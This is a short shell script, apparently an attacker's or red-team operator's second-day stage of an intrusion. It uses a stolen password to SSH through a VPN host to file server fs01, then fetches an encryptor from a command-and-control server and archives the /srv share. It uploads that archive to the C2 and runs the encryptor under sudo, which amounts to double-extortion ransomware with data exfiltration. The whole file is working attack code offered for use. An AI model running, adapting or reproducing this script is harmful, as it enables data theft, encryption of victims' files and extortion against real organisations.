#!/bin/sh
# Day 2: through vpn01 to fs01 again; steal the share, then encrypt it.
. /root/ops/common.sh
vpn_access || { log "lock: no access to vpn01 - operation aborted"; exit 0; }
pw=$(fs_pw)
[ -n "$pw" ] || { log "lock: no fs01 password"; exit 0; }
# the operator's key pair: the private half never leaves this host
[ -f "$OPS/rsa-minato.pem" ] || openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$OPS/rsa-minato.pem" 2>/dev/null
PUB=$(openssl pkey -in "$OPS/rsa-minato.pem" -pubout | base64 -w0)
# serve the encryptor as the C2 tasking, with the public key filled in
sed "s|__PUB__|$PUB|" "$OPS/lock.sh" > /etc/c2/tasking.txt
log "lock: fs01 as fsadmin via $USER_ON_VPN@vpn01"
typed <<CMDS | timeout 400 sshpass -p "$pw" ssh -tt $SSHO -o PubkeyAuthentication=no -o ProxyCommand="$VIA -W %h:%p" fsadmin@fs01 > "$OPS/session-lock.log" 2>&1
mkdir -p /var/tmp/.cache && cd /var/tmp/.cache
curl -s -o svc-lock.sh "$C2/beacon?id=fs01"
sudo tar czf s.tgz -C /srv share
curl -s --data-binary @s.tgz "$C2/upload?name=fs01-share.tgz"
rm -f s.tgz
sudo bash svc-lock.sh
#sleep 20
exit
CMDS
log "lock done rc=$?"
exit 0
